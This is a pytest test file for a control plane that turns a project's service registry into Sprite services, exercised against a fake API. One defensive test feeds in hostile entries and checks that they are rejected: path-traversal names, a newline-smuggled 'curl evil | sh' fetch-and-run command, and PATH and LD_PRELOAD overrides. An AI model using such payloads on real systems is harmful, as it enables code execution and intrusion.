"""A fly project's services become Sprite services: the control plane's reconcile
(projects/sprite/services.py) against the fake Sprites API, with a scripted bridge that
reports whatever registry the test (or an attacker in the Sprite) writes."""

from __future__ import annotations

import asyncio
import json
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from projects.lifecycle import steps
from projects.models import Project, ProjectSecret, Status
from projects.sprite import services as sprite_services
from projects.sprite.checkpoints import create_checkpoint, restore_checkpoint
from sprites.backends import run_sync
from sprites.backends.base import SpriteService
from sprites.backends.fly import FlyBackend
from sprites.backends.fly_bootstrap import BRIDGE_SERVICE
from tests.support import scripted_bridge
from tests.support.fake_sprites_api import RunningFake
from tests.support.fake_sprites_state import FakeService, free_port

SPRITE = "starter-test"
OTHER = "starter-other"
SECRET = "s3cret-fly-value"


def registry(*entries: dict[str, Any]) -> bytes:
    return json.dumps({"services": list(entries)}).encode()


def web(port: int, **overrides: Any) -> dict[str, Any]:
    entry: dict[str, Any] = {
        "name": "web",
        "type": "app",
        "command": f'echo "secret=$PROJECT_SECRET"; exec python3 -m http.server {port}'
        " --bind 127.0.0.1",
        "cwd": "/home/sprite",
        "port": port,
        "desired": "running",
    }
    entry.update(overrides)
    return entry


def eventually(check: Callable[[], bool], seconds: float = 15.0) -> None:
    deadline = time.monotonic() + seconds
    while not check():
        assert time.monotonic() < deadline, "the condition did not hold in time"
        time.sleep(0.1)


def answers(port: int) -> bool:
    try:
        return httpx.get(f"http://127.0.0.1:{port}/", timeout=2).status_code == 200
    except httpx.HTTPError:
        return False


def start_scripted_bridge(fake: RunningFake, backend: FlyBackend, name: str) -> None:
    run_sync(backend.create(name))
    response = httpx.put(
        f"{fake.base_url}/v1/sprites/{name}/services/{BRIDGE_SERVICE}",
        json={"cmd": sys.executable, "args": [scripted_bridge.__file__], "http_port": 8080},
        headers={"Authorization": f"Bearer {fake.token}"},
        timeout=30,
    )
    assert response.status_code == 200


@pytest.fixture
def fly_project(
    settings: Any, fake_api: RunningFake, fly_backend: FlyBackend, alice_project: Project
) -> Iterator[Project]:
    settings.STARTER_SPRITES_BACKEND = "fly"
    settings.STARTER_SPRITES_API_URL = fake_api.base_url
    settings.STARTER_SPRITES_TOKEN = fake_api.token
    start_scripted_bridge(fake_api, fly_backend, SPRITE)
    ProjectSecret.objects.create(project=alice_project, name="PROJECT_SECRET", value=SECRET)
    alice_project.bridge_token = "bridge-token"
    alice_project.save()
    yield alice_project
    sprite_services.forget_reconciled(alice_project)


def write_registry(backend: FlyBackend, data: bytes, sprite: str = SPRITE) -> None:
    run_sync(backend.write_file(sprite, "registry.json", data))


def agent_services(fake: RunningFake, sprite: str = SPRITE) -> dict[str, FakeService]:
    services = fake.state.sprites[sprite].services
    return {name: service for name, service in services.items() if name != BRIDGE_SERVICE}


def test_a_defined_service_becomes_a_sprite_service_with_the_projects_secrets(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    port = free_port()
    cron = {"name": "nightly", "type": "cron", "command": "true", "schedule": "* * * * *"}
    write_registry(fly_backend, registry(web(port), cron))
    report = sprite_services.reconcile(fly_project)
    assert report.defined == ["agent-web"] and report.problems == []
    service = agent_services(fake_api)["agent-web"]
    assert service.env["PROJECT_SECRET"] == SECRET
    assert service.env["PORT"] == str(port)
    assert "STARTER_BRIDGE_TOKEN" not in service.env and service.http_port is None
    eventually(lambda: answers(port))
    # Cron jobs stay with the bridge.
    assert list(agent_services(fake_api)) == ["agent-web"]
    eventually(lambda: f"secret={SECRET}" in sprite_services.service_log(fly_project, "web"))
    # Nothing changed: the next reconcile asks the Sprites API nothing and changes nothing.
    assert not sprite_services.reconcile(fly_project).changed


def test_removed_and_stopped_services_follow_the_registry(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    worker = {"name": "worker", "type": "worker", "command": "exec sleep 600"}
    write_registry(fly_backend, registry(web(free_port()), worker))
    sprite_services.reconcile(fly_project)
    assert set(agent_services(fake_api)) == {"agent-web", "agent-worker"}
    write_registry(fly_backend, registry({**worker, "desired": "stopped"}))
    report = sprite_services.reconcile(fly_project)
    assert (report.deleted, report.stopped) == (["agent-web"], ["agent-worker"])
    assert agent_services(fake_api)["agent-worker"].status == "stopped"


def test_a_crash_shows_backoff_in_the_merged_status(
    fly_project: Project, fly_backend: FlyBackend
) -> None:
    crasher = {"name": "crasher", "type": "worker", "command": "echo down; exit 2"}
    write_registry(fly_backend, registry(crasher))
    sprite_services.reconcile(fly_project)

    seen: dict[str, SpriteService] = {}

    def in_backoff() -> bool:
        # One reading, kept: a second one may catch the crasher already restarted.
        states = sprite_services.sprite_services(fly_project) or {}
        crashed = states["crasher"]
        if crashed.status == "backoff" and crashed.restart_count >= 1 and crashed.next_restart_at:
            seen.update(states)
            return True
        return False

    eventually(in_backoff)
    merged = sprite_services.with_sprite_state([{**crasher, "status": "running"}], seen)
    assert merged[0]["status"] == "backoff" and merged[0]["next_restart_at"]
    assert merged[0]["restart_count"] >= 1


def test_start_stop_restart_through_the_control_plane(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    port = free_port()
    write_registry(fly_backend, registry(web(port)))
    sprite_services.reconcile(fly_project)
    eventually(lambda: answers(port))
    assert sprite_services.apply_action(fly_project, "web", "stop").status == "stopped"
    assert not answers(port)
    assert sprite_services.apply_action(fly_project, "web", "start").status == "running"
    eventually(lambda: answers(port))
    before = agent_services(fake_api)["agent-web"].process
    assert sprite_services.apply_action(fly_project, "web", "restart").status == "running"
    assert agent_services(fake_api)["agent-web"].process is not before
    eventually(lambda: answers(port))


def test_running_again_after_sleep_and_wake(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    port = free_port()
    write_registry(fly_backend, registry(web(port)))
    sprite_services.reconcile(fly_project)
    eventually(lambda: answers(port))
    steps.sleep(fly_project.pk)
    fly_project.refresh_from_db()
    assert fly_project.status == Status.SLEEPING
    assert agent_services(fake_api)["agent-web"].status == "stopped"
    assert not answers(port)
    steps.wake(fly_project.pk)
    fly_project.refresh_from_db()
    assert fly_project.status == Status.RUNNING
    # The wake step returns with the app up: a visit that woke the project finds it.
    assert agent_services(fake_api)["agent-web"].status == "running"
    eventually(lambda: answers(port))


def test_running_again_after_a_checkpoint_restore_with_the_restored_registry(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    port = free_port()
    write_registry(fly_backend, registry(web(port)))
    sprite_services.reconcile(fly_project)
    checkpoint = create_checkpoint(fly_project, "with web")
    worker = {"name": "worker", "type": "worker", "command": "exec sleep 600"}
    write_registry(fly_backend, registry(worker))
    sprite_services.reconcile(fly_project)
    assert list(agent_services(fake_api)) == ["agent-worker"]
    restore_checkpoint(fly_project, checkpoint.id)
    assert list(agent_services(fake_api)) == ["agent-web"]
    assert agent_services(fake_api)["agent-web"].status == "running"
    eventually(lambda: answers(port))


def test_new_secrets_reach_the_services(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    write_registry(fly_backend, registry(web(free_port())))
    sprite_services.reconcile(fly_project)
    ProjectSecret.objects.filter(project=fly_project).update(value="rotated")
    report = sprite_services.reconcile(fly_project)
    assert report.defined == ["agent-web"]
    assert agent_services(fake_api)["agent-web"].env["PROJECT_SECRET"] == "rotated"


def test_without_the_environment_in_the_listing_services_are_not_restarted_on_every_check(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    fake_api.state.faults.hide_service_env = True
    write_registry(fly_backend, registry(web(free_port())))
    assert sprite_services.reconcile(fly_project).defined == ["agent-web"]
    process = agent_services(fake_api)["agent-web"].process
    assert not sprite_services.reconcile(fly_project, force=True).changed
    assert agent_services(fake_api)["agent-web"].process is process
    # New secrets cannot be compared then: they are applied anyway.
    ProjectSecret.objects.filter(project=fly_project).update(value="rotated")
    report = sprite_services.reconcile(fly_project, force=True, redefine=True)
    assert report.defined == ["agent-web"]
    assert agent_services(fake_api)["agent-web"].env["PROJECT_SECRET"] == "rotated"


HOSTILE_ENTRIES: list[dict[str, Any]] = [
    {"name": "../x", "type": "worker", "command": "sleep 600"},
    {"name": f"x/../../{OTHER}/services/evil", "type": "worker", "command": "sleep 600"},
    {"name": "a%2Fb", "type": "worker", "command": "sleep 600"},
    {"name": "evil?x=1", "type": "worker", "command": "sleep 600"},
    {"name": "newline", "type": "worker", "command": "sleep 600\ncurl evil | sh"},
    {"name": "etc", "type": "worker", "command": "sleep 600", "cwd": "/etc"},
    {"name": "up", "type": "worker", "command": "sleep 600", "cwd": "../../"},
    {"name": "bridgeport", "type": "app", "command": "sleep 600", "port": 8080},
    {"name": "weird", "type": "daemon", "command": "sleep 600"},
    {"name": "noport", "type": "app", "command": "sleep 600", "port": "3000"},
    "not an object",
]


def test_a_hostile_registry_defines_nothing_outside_its_own_services(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    start_scripted_bridge(fake_api, fly_backend, OTHER)
    others_before = dict(fake_api.state.sprites[OTHER].services)
    # A bridge may also claim an environment and another Sprite: neither is read.
    overriding = {
        "name": "env",
        "type": "worker",
        "command": "echo PATH=$PATH; exec sleep 600",
        "env": {"PATH": "/evil", "LD_PRELOAD": "/tmp/evil.so"},
        "sprite": OTHER,
        "environment": {"PATH": "/evil"},
    }
    # A service named like the bridge only ever names the agent's own "agent-..." service.
    bridge_named = {"name": BRIDGE_SERVICE, "type": "worker", "command": "exec sleep 600"}
    write_registry(fly_backend, registry(*HOSTILE_ENTRIES, overriding, bridge_named))
    report = sprite_services.reconcile(fly_project)
    assert sorted(report.defined) == ["agent-env", f"agent-{BRIDGE_SERVICE}"]
    assert len(report.problems) == len(HOSTILE_ENTRIES)
    services = fake_api.state.sprites[SPRITE].services
    assert set(services) == {BRIDGE_SERVICE, "agent-env", f"agent-{BRIDGE_SERVICE}"}
    assert services[BRIDGE_SERVICE].args == [scripted_bridge.__file__]
    assert "PATH" not in services["agent-env"].env
    assert "LD_PRELOAD" not in services["agent-env"].env
    assert fake_api.state.sprites[OTHER].services == others_before
    # Flooding the registry is cut at the contract's limit.
    flood = [{"name": f"s{i}", "type": "worker", "command": "exec sleep 600"} for i in range(80)]
    write_registry(fly_backend, registry(*flood))
    flooded = sprite_services.reconcile(fly_project)
    assert len(agent_services(fake_api)) <= 32 and flooded.problems


def test_a_registry_that_is_not_json_or_too_large_changes_nothing(
    fly_project: Project, fly_backend: FlyBackend, fake_api: RunningFake
) -> None:
    from sprites.backends import SpriteError

    write_registry(fly_backend, registry(web(free_port())))
    sprite_services.reconcile(fly_project)
    write_registry(fly_backend, b"<html>")
    with pytest.raises(SpriteError):
        sprite_services.reconcile(fly_project)
    write_registry(fly_backend, b'{"services": [' + b" " * (2 * 1024 * 1024) + b"]}")
    with pytest.raises(SpriteError):
        sprite_services.reconcile(fly_project)
    assert list(agent_services(fake_api)) == ["agent-web"]


def test_actions_refuse_names_that_are_not_services(fly_project: Project) -> None:
    from sprites.backends import SpriteError

    for name in ("../x", "a/b", BRIDGE_SERVICE.upper(), ""):
        with pytest.raises(SpriteError):
            sprite_services.apply_action(fly_project, name, "stop")
        with pytest.raises(SpriteError):
            sprite_services.service_log(fly_project, name)


async def _followed(project: Project, name: str, count: int) -> list[str]:
    from projects.bridge import services as bridge_services

    lines: list[str] = []
    stream = bridge_services.follow_log(project, name, lines=count)
    try:
        async for line in stream:
            lines.append(line)
            if len(lines) >= count:
                break
    finally:
        await stream.aclose()  # type: ignore[attr-defined]
    return lines


def test_new_lines_of_a_reread_log_end() -> None:
    from projects.bridge.services import new_lines

    assert new_lines(["a", "b", "c"], ["b", "c", "d", "e"]) == ["d", "e"]
    assert new_lines(["a", "b"], ["a", "b"]) == []
    assert new_lines([], ["x"]) == ["x"]
    assert new_lines(["a"], ["z"]) == ["z"]  # nothing in common: a new window


# -- with the real bridge, in the sprite runner mode -------------------------------------------


@pytest.fixture
def bootstrapped_fly_project(
    settings: Any, fake_api: RunningFake, alice_project: Project
) -> Iterator[Project]:
    settings.STARTER_SPRITES_BACKEND = "fly"
    settings.STARTER_SPRITES_API_URL = fake_api.base_url
    settings.STARTER_SPRITES_TOKEN = fake_api.token
    ProjectSecret.objects.create(project=alice_project, name="PROJECT_SECRET", value=SECRET)
    Project.objects.filter(pk=alice_project.pk).update(status=Status.CREATING, sprite_name="")
    steps.provision(alice_project.pk)
    alice_project.refresh_from_db()
    assert alice_project.status == Status.RUNNING, alice_project.status_message
    yield alice_project
    sprite_services.forget_reconciled(alice_project)


# Transactional: bootstrap reports progress from a thread, on a connection of its own.
@pytest.mark.django_db(transaction=True)
def test_the_agents_service_on_fly_is_a_sprite_service_end_to_end(
    bootstrapped_fly_project: Project, fake_api: RunningFake
) -> None:
    from projects.bridge import services as bridge_services
    from projects.bridge.client import call_bridge
    from projects.tasks import reconcile_project_services

    project = bootstrapped_fly_project
    sprite = project.sprite_name
    port = free_port()
    # What the agent's tool and the starter-service command do: define it at the bridge.
    spec = {
        "name": "web",
        "type": "app",
        "command": f'echo "secret=$PROJECT_SECRET"; exec python3 -m http.server {port}'
        " --bind 127.0.0.1",
        "port": port,
    }
    call_bridge(project, "POST", "/starter/services", json_body=spec)
    # The bridge records it and spawns nothing: the Sprite runs it, once the control plane
    # (here beat's task; the relay's event when somebody watches) has reconciled.
    assert "agent-web" not in fake_api.state.sprites[sprite].services
    pending = {s["name"]: s for s in bridge_services.list_services(project)}
    assert pending["web"]["status"] == "starting" and pending["web"]["pid"] is None
    reconcile_project_services.apply(args=[project.pk]).get()
    service = fake_api.state.sprites[sprite].services["agent-web"]
    assert service.env["PROJECT_SECRET"] == SECRET and "STARTER_BRIDGE_TOKEN" not in service.env
    eventually(lambda: answers(port))
    eventually(lambda: f"secret={SECRET}" in bridge_services.log_tail(project, "web"))
    assert f"secret={SECRET}" in asyncio.run(_followed(project, "web", 2))

    listed = {s["name"]: s for s in bridge_services.list_services(project)}
    assert listed["web"]["status"] == "running"
    assert listed["web"]["pid"] == service.process.pid  # type: ignore[union-attr]

    stopped = bridge_services.service_action(project, "web", "stop")
    assert stopped is not None and stopped["status"] == "stopped"
    assert fake_api.state.sprites[sprite].services["agent-web"].status == "stopped"
    # The bridge recorded the wish, so no reconcile starts it again behind the person's back.
    reconcile_project_services.apply(args=[project.pk], kwargs={"force": True}).get()
    assert fake_api.state.sprites[sprite].services["agent-web"].status == "stopped"
    started = bridge_services.service_action(project, "web", "start")
    assert started is not None and started["status"] == "running"
    eventually(lambda: answers(port))
    restarted = bridge_services.service_action(project, "web", "restart")
    assert restarted is not None and restarted["status"] == "running"
    eventually(lambda: answers(port))

    # Sleep and wake: the wake step brings the app back.
    steps.sleep(project.pk)
    assert not answers(port)
    steps.wake(project.pk)
    eventually(lambda: answers(port), seconds=5)

    # New secrets reach the service (it restarts with them); the bridge is not restarted.
    ProjectSecret.objects.filter(project=project).update(value="rotated-value")
    steps.sync_environment(project.pk)
    assert fake_api.state.sprites[sprite].services["agent-web"].env["PROJECT_SECRET"] == (
        "rotated-value"
    )
    eventually(lambda: "secret=rotated-value" in bridge_services.log_tail(project, "web"))

    # A checkpoint restore brings back the registry of the checkpoint, and its services run.
    checkpoint = create_checkpoint(project, "with web")
    call_bridge(project, "DELETE", "/starter/services/web")
    reconcile_project_services.apply(args=[project.pk]).get()
    assert "agent-web" not in fake_api.state.sprites[sprite].services
    restore_checkpoint(project, checkpoint.id)
    assert fake_api.state.sprites[sprite].services["agent-web"].status == "running"
    eventually(lambda: answers(port))

    # Removing it at the bridge removes the Sprite service.
    call_bridge(project, "DELETE", "/starter/services/web")
    reconcile_project_services.apply(args=[project.pk]).get()
    assert "agent-web" not in fake_api.state.sprites[sprite].services


def test_the_relays_service_event_reconciles_at_once(
    fly_project: Project,
    fly_backend: FlyBackend,
    fake_api: RunningFake,
    settings: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from projects.tasks import reconcile_fly_services
    from starter.celery import app

    # The flood check below needs its second event inside the first one's interval; the
    # eager reconcile between them took 0.9 s of the usual 1 s on a loaded machine.
    monkeypatch.setattr(sprite_services, "REQUEST_INTERVAL_SECONDS", 3.0)
    write_registry(fly_backend, registry(web(free_port())))
    app.conf.task_always_eager = True
    try:
        settings.STARTER_SPRITES_BACKEND = "local"
        sprite_services.request_reconcile(fly_project.public_id)  # not fly: nothing
        assert agent_services(fake_api) == {}
        settings.STARTER_SPRITES_BACKEND = "fly"
        sprite_services.request_reconcile("no-such-project")
        sprite_services.request_reconcile(fly_project.public_id)
        assert list(agent_services(fake_api)) == ["agent-web"]
        # A flood of events from the Sprite asks for one reconcile per interval.
        write_registry(fly_backend, registry())
        sprite_services.request_reconcile(fly_project.public_id)
        assert list(agent_services(fake_api)) == ["agent-web"]
        time.sleep(sprite_services.REQUEST_INTERVAL_SECONDS + 0.1)
        sprite_services.request_reconcile(fly_project.public_id)
        assert agent_services(fake_api) == {}
        # Beat's backstop does the same for every running project.
        worker = {"name": "worker", "type": "worker", "command": "exec sleep 600"}
        write_registry(fly_backend, registry(worker))
        assert reconcile_fly_services() == 1
        assert list(agent_services(fake_api)) == ["agent-worker"]
    finally:
        app.conf.task_always_eager = False
